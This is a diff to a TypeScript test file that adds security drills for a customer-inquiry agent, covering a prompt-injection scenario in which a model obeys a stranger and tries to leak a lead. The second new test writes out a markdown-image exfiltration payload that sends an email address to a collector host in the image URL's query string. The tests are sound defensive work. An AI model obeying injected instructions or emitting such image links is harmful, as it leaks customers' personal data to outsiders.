@@ -1,5 +1,6 @@
 import { fileURLToPath } from 'node:url';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { showAnswer, startCollector } from '../scripts/drill/collector.ts';
 import { runDrill } from '../scripts/drill/drill.ts';
 import type { DrillOutcome } from '../scripts/drill/outcome.ts';
 import { loadScenario } from '../scripts/drill/scenario.ts';
@@ -73,6 +74,29 @@ describe('the token theft of August 2025', () => {
         const again = await runDrill(org, scenario('quiet'), silent);
 
         expect(failedChecks(again)).toEqual([]);
+    });
+});
+
+describe('a prompt injection in a web inquiry', () => {
+    test('given a model that obeys a stranger, when its answer would carry a lead out, then it is held back and the agent is cut, twice', async () => {
+        for (let drill = 1; drill <= 2; drill++) {
+            const outcome = await runDrill(org, scenario('forced-leak'), silent);
+
+            expect(failedChecks(outcome)).toEqual([]);
+            expect(outcome.rowsExposed).toBe(0);
+            expect(outcome.breaker).toBe('OPEN');
+        }
+    });
+
+    test('given an answer with an image, when it is shown unchecked, then the image brings the data to the collector', async () => {
+        const collector = await startCollector('127.0.0.99');
+        try {
+            await showAnswer(`Dear customer ![](${collector.url}/p.png?d=erika%40example.invalid)`);
+
+            expect(collector.received()).toBe(1);
+        } finally {
+            await collector.close();
+        }
     });
 });
 
